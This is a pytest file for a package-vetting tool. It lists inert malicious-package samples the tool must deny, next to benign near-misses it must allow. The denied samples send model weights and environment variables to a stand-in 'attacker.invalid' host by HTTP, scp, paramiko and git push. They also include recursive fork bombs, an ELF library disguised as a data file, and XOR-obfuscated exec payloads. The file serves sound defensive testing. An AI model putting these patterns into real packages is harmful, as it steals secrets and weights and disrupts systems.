"""The shapes ADRs 0089 and 0090 left undetected (ADR 0093): a model folder added to a tar
and sent, a zip member written through ``ZipFile.open(name, 'w')``, weights packed when
called and sent to an address written in the code, ``scp``'s and dulwich's pushes, a module
whose only network word is ``paramiko``, a fork bomb by recursion, a native library shipped
under a name that is not a library's and loaded on import, the whole environment sent when
called, and a repeating XOR key applied through ``map(operator.xor, ...)``.

Each sample is inert (vetting only reads files). The near-misses are what backup tools,
libraries with their own shared library, git front-ends and telemetry clients do."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

# ``import os; os.system('id')`` hidden by a repeating three-byte key.
KEY = [0x13, 0x37, 0x42]
HIDDEN_CODE = "import os; os.system('id')"
BLOB = [b ^ KEY[i % len(KEY)] for i, b in enumerate(HIDDEN_CODE.encode())]
# A native library's first bytes: an ELF header (inert, no code follows).
ELF = "\x7fELF\x02\x01\x01\x00" + "\x00" * 56  # ASCII: its UTF-8 is these bytes

DENIED: dict[str, dict[str, str]] = {
    # 1. A model folder added to a tar on import, and the tar posted.
    "tar-of-the-models-folder-posted-on-import": init(
        "import io, tarfile, requests\n"
        "buf = io.BytesIO()\n"
        "with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "    tar.add('/models')\n"
        "requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "tar-of-a-checkpoint-folder-put-by-urllib": init(
        "import io, os, tarfile, urllib.request\n"
        "buf = io.BytesIO()\n"
        "tar = tarfile.open(fileobj=buf, mode='w')\n"
        "tar.add(os.path.expanduser('~/checkpoints'), arcname='c')\n"
        "tar.close()\n"
        "urllib.request.urlopen('https://attacker.invalid/u', buf.getvalue())\n"
    ),
    "models-folder-archived-by-make-archive-on-import": init(
        "import shutil, requests\n"
        "p = shutil.make_archive('/tmp/.m', 'gztar', root_dir='/models')\n"
        "requests.post('https://attacker.invalid/u', data=open(p, 'rb').read())\n"
    ),
    "models-folder-walked-and-each-file-posted-on-import": init(
        "import os, requests\n"
        "for root, _, names in os.walk('/models'):\n"
        "    for n in names:\n"
        "        with open(os.path.join(root, n), 'rb') as f:\n"
        "            requests.post('https://attacker.invalid/u', data=f.read())\n"
    ),
    "models-folder-tarred-by-a-command-on-import": init(
        "import subprocess, requests\n"
        "subprocess.run(['tar', 'czf', '/tmp/.m.tgz', '/models'], check=False)\n"
        "requests.post('https://attacker.invalid/u', data=open('/tmp/.m.tgz', 'rb').read())\n"
    ),
    # 2. Weight files written into zip members through ``ZipFile.open(name, 'w')``.
    "zip-member-opened-for-writing-then-posted": init(
        "import glob, io, os, shutil, zipfile, requests\n"
        "buf = io.BytesIO()\n"
        "zf = zipfile.ZipFile(buf, 'w')\n"
        "for p in glob.glob('/srv/**/*.safetensors', recursive=True):\n"
        "    with zf.open(os.path.basename(p), 'w') as dst, open(p, 'rb') as src:\n"
        "        shutil.copyfileobj(src, dst)\n"
        "zf.close()\n"
        "requests.put('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    # 3. Weights packed when called, and sent to an address written in the code.
    "weights-tarred-when-called-to-a-written-url": init(
        "import glob, io, tarfile, requests\n"
        "def sync():\n"
        "    buf = io.BytesIO()\n"
        "    with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "        for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
        "            tar.add(p)\n"
        "    requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "hub-cache-zipped-when-called-to-a-written-url": init(
        "import os, shutil, requests\n"
        "def backup():\n"
        "    cache = os.path.expanduser('~/.cache/huggingface/hub')\n"
        "    path = shutil.make_archive('/tmp/.b', 'zip', root_dir=cache)\n"
        "    with open(path, 'rb') as f:\n"
        "        requests.post('https://attacker.invalid/u', files={'f': f})\n"
    ),
    # 4. ``scp``'s client, dulwich's push, a module naming only ``paramiko``.
    "scp-client-put-of-weights": init(
        "import glob, paramiko\n"
        "from scp import SCPClient\n"
        "ssh = paramiko.SSHClient()\n"
        "ssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
        "ssh.connect('attacker.invalid', username='u', password='p')\n"
        "with SCPClient(ssh.get_transport()) as scp:\n"
        "    scp.put(glob.glob('/srv/*.safetensors'), remote_path='/drop')\n"
    ),
    "dulwich-porcelain-push-of-weights": init(
        "from dulwich import porcelain\n"
        "repo = porcelain.init('/tmp/.w')\n"
        "porcelain.add(repo, paths=['/tmp/.w/model.safetensors'])\n"
        "porcelain.commit(repo, message=b'x')\n"
        "porcelain.push(repo, 'https://attacker.invalid/w.git', 'master')\n"
    ),
    "paramiko-exec-command-fed-weights": init(
        "import paramiko\n"
        "c = paramiko.SSHClient()\n"
        "c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
        "c.connect('attacker.invalid', username='u', password='p')\n"
        "stdin, stdout, stderr = c.exec_command('cat > /tmp/m')\n"
        "stdin.write(open('/srv/model.safetensors', 'rb').read())\n"
    ),
    "paramiko-shell-channel-sent-weights": init(
        "import paramiko\n"
        "c = paramiko.SSHClient()\n"
        "c.connect('attacker.invalid', username='u', password='p')\n"
        "chan = c.invoke_shell()\n"
        "chan.sendall(open('/srv/model.safetensors', 'rb').read())\n"
    ),
    # 5. A fork bomb by recursion.
    "fork-bomb-by-recursion": init("import os\ndef grow():\n    os.fork()\n    grow()\ngrow()\n"),
    "process-bomb-by-recursive-target": init(
        "import multiprocessing\n"
        "def grow():\n"
        "    multiprocessing.Process(target=grow).start()\n"
        "    multiprocessing.Process(target=grow).start()\n"
        "grow()\n"
    ),
    # 6. A native library shipped under a data file's name, loaded on import.
    "native-library-named-as-data-loaded-on-import": {
        "evpkg/__init__.py": (
            "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'fonts.dat'))\n"
        ),
        "evpkg/fonts.dat": ELF,
    },
    "native-library-decoded-then-loaded-on-import": init(
        "import base64, ctypes, os, tempfile\n"
        "from evpkg._blob import LIB\n"
        "p = os.path.join(tempfile.gettempdir(), 'libx.so')\n"
        "with open(p, 'wb') as f:\n"
        "    f.write(base64.b64decode(LIB))\n"
        "ctypes.CDLL(p)\n"
    )
    | {"evpkg/_blob.py": "LIB = 'f0VMRgIBAQAAAAAAAAAAAA=='\n"},
    # 7. The whole environment sent when called (as ``ctx`` did in 2022).
    "environment-sent-when-called-to-a-written-url": init(
        "import base64, os, requests\n"
        "class Ctx(dict):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        self.send()\n"
        "    def send(self):\n"
        "        env = base64.b64encode(str(os.environ).encode()).decode()\n"
        "        requests.get('https://attacker.invalid/hacked/' + env)\n"
    ),
    "environment-copy-posted-when-called": init(
        "import os, json, urllib.request\n"
        "def report():\n"
        "    body = json.dumps(dict(os.environ)).encode()\n"
        "    urllib.request.urlopen('https://attacker.invalid/e', body)\n"
    ),
    "environment-imported-by-name-sent-when-called": init(
        "import requests\n"
        "from os import environ\n"
        "def sync():\n"
        "    requests.post('https://attacker.invalid/e', json=dict(environ))\n"
    ),
    # 8. A repeating XOR key applied through ``map(operator.xor, ...)``, then run.
    "xor-by-operator-map-with-cycled-key": init(
        "import operator\n"
        "from itertools import cycle\n"
        f"BLOB = {BLOB!r}\n"
        f"KEY = {bytes(KEY)!r}\n"
        "exec(bytes(map(operator.xor, BLOB, cycle(KEY))))\n"
    ),
    "xor-by-lambda-map-with-cycled-key": init(
        "from itertools import cycle\n"
        f"BLOB = {BLOB!r}\n"
        f"KEY = {KEY!r}\n"
        "exec(bytes(map(lambda a, b: a ^ b, BLOB, cycle(KEY))).decode())\n"
    ),
    "xor-by-starmap-over-zip-of-a-file": init(
        "import operator, os\n"
        "from itertools import cycle, starmap\n"
        "data = open(os.path.join(os.path.dirname(__file__), 'd.bin'), 'rb').read()\n"
        "exec(bytes(starmap(operator.xor, zip(data, cycle(b'k3y')))))\n"
    ),
}

HELD: dict[str, dict[str, str]] = {}

ALLOWED: dict[str, dict[str, str]] = {
    # 1-3. A backup tool tars the folder its caller names and posts it where it is told.
    "backup-tool-tars-the-callers-folder": init(
        "import io, tarfile, requests\n"
        "def backup(folder, url):\n"
        "    buf = io.BytesIO()\n"
        "    with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "        tar.add(folder)\n"
        "    requests.post(url, data=buf.getvalue())\n"
    ),
    # A model service's client packs the caller's checkpoint and posts it to its own API.
    "model-client-packs-the-callers-checkpoint-to-its-api": init(
        "import glob, io, os, zipfile, requests\n"
        "API = 'https://api.modelservice.example.com/v1/models'\n"
        "def push(path):\n"
        "    buf = io.BytesIO()\n"
        "    with zipfile.ZipFile(buf, 'w') as zf:\n"
        "        for p in glob.glob(os.path.join(path, '*.safetensors')):\n"
        "            with zf.open(os.path.basename(p), 'w') as dst:\n"
        "                dst.write(open(p, 'rb').read())\n"
        "    requests.post(API, data=buf.getvalue())\n"
    ),
    # A hub loader names its cache and its download address; a log exporter beside it packs
    # no weights, and sends them where its caller says.
    "hub-loader-beside-a-log-zipper": init(
        "import os, zipfile, requests, torch\n"
        "CACHE = os.path.expanduser('~/.cache/torch/hub')\n"
        "def load():\n"
        "    path = os.path.join(CACHE, 'resnet18.pt')\n"
        "    if not os.path.exists(path):\n"
        "        r = requests.get('https://download.example.org/models/resnet18.pt')\n"
        "        open(path, 'wb').write(r.content)\n"
        "    return torch.load(path)\n"
        "def export_logs(out, url):\n"
        "    with zipfile.ZipFile(out, 'w') as z:\n"
        "        z.write('train.log')\n"
        "    requests.post(url, data=open(out, 'rb'))\n"
    ),
    # A package unpacks its own bundled ``models`` folder into a tar on import; sends nothing.
    "own-models-folder-tarred-on-import": init(
        "import os, tarfile, tempfile\n"
        "HERE = os.path.dirname(__file__)\n"
        "with tarfile.open(os.path.join(tempfile.gettempdir(), 'm.tar'), 'w') as tar:\n"
        "    tar.add(os.path.join(HERE, 'models'))\n"
    ),
    # A report written into a zip member on import, reading members back when called.
    "report-member-written-into-a-zip": init(
        "import zipfile\n"
        "with zipfile.ZipFile('/tmp/report.zip', 'w') as zf:\n"
        "    with zf.open('report.txt', 'w') as f:\n"
        "        f.write(b'ok')\n"
        "def read(path):\n"
        "    with zipfile.ZipFile(path) as zf:\n"
        "        return zf.open('model.safetensors', 'r').read()\n"
    ),
    # 4. A deploy tool copies what its caller names over scp; a git front-end pushes the
    # user's repository when run; an SSH helper runs the caller's command on the caller's host.
    "deploy-tool-scp-put-when-called": init(
        "import paramiko\n"
        "from scp import SCPClient\n"
        "def deploy(host, files, remote):\n"
        "    ssh = paramiko.SSHClient()\n"
        "    ssh.load_system_host_keys()\n"
        "    ssh.connect(host)\n"
        "    with SCPClient(ssh.get_transport()) as scp:\n"
        "        scp.put(files, remote_path=remote)\n"
    ),
    "git-front-end-pushes-the-users-repo": init(
        "from dulwich import porcelain\n"
        "def publish(path, remote):\n"
        "    porcelain.add(path)\n"
        "    porcelain.commit(path, message=b'update')\n"
        "    porcelain.push(path, remote, 'main')\n"
    ),
    "ssh-helper-runs-the-callers-command": init(
        "import paramiko\n"
        "def run(host, command, data=b''):\n"
        "    c = paramiko.SSHClient()\n"
        "    c.load_system_host_keys()\n"
        "    c.connect(host)\n"
        "    stdin, stdout, _ = c.exec_command(command)\n"
        "    stdin.write(data)\n"
        "    return stdout.read()\n"
    ),
    # 5. A retry that forks again only while its budget lasts, and waits for each child.
    "bounded-recursive-restart-waits": init(
        "import multiprocessing\n"
        "def work():\n"
        "    pass\n"
        "def start(tries=3):\n"
        "    p = multiprocessing.Process(target=work)\n"
        "    p.start()\n"
        "    p.join()\n"
        "    if p.exitcode and tries:\n"
        "        start(tries - 1)\n"
        "start()\n"
    ),
    "recursive-tree-walk-with-a-base-case": init(
        "import os\n"
        "def crawl(depth):\n"
        "    if depth == 0:\n"
        "        return\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        crawl(depth - 1)\n"
        "        os._exit(0)\n"
        "    os.waitpid(pid, 0)\n"
    ),
    # 6. A library loads its own bundled shared library on import (ctypes and cffi).
    "bundled-shared-library-loaded-by-ctypes": {
        "evpkg/__init__.py": (
            "import ctypes, os\n"
            "_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libevpkg.so'))\n"
        ),
        "evpkg/libevpkg.so": ELF,
    },
    "bundled-shared-library-loaded-by-cffi": {
        "evpkg/__init__.py": (
            "import os\n"
            "from cffi import FFI\n"
            "ffi = FFI()\n"
            "ffi.cdef('int evpkg_version(void);')\n"
            "lib = ffi.dlopen(os.path.join(os.path.dirname(__file__), 'libevpkg.so.1'))\n"
        ),
        "evpkg/libevpkg.so.1": ELF,
    },
    # 7. An SDK sends its one token to its own API; a runner hands a child the environment;
    # a crash reporter posts the environment to the address its caller configured.
    "sdk-sends-its-token-to-its-api": init(
        "import os, requests\n"
        "def complete(prompt):\n"
        "    token = os.environ['EXAMPLE_API_KEY']\n"
        "    return requests.post('https://api.example.com/v1/complete',\n"
        "                         headers={'Authorization': 'Bearer ' + token},\n"
        "                         json={'prompt': prompt})\n"
    ),
    "runner-hands-its-child-the-environment": init(
        "import os, subprocess\n"
        "def run(cmd):\n"
        "    env = os.environ.copy()\n"
        "    env['PYTHONUNBUFFERED'] = '1'\n"
        "    return subprocess.run(cmd, env=env, check=True)\n"
    ),
    "crash-reporter-posts-to-the-callers-dsn": init(
        "import os, requests\n"
        "def report(dsn, exc):\n"
        "    requests.post(dsn, json={'error': repr(exc), 'env': dict(os.environ)})\n"
    ),
    # 8. Two buffers XORed by a checksum; a pad folded on import and never run.
    "xor-checksum-of-two-buffers": init(
        "import operator\ndef mix(a, b):\n    return bytes(map(operator.xor, a, b))\n"
    ),
    "xor-pad-folded-on-import": init(
        "import operator\n"
        "from itertools import cycle\n"
        "PAD = bytes(map(operator.xor, b'header', cycle(b'\\x01')))\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
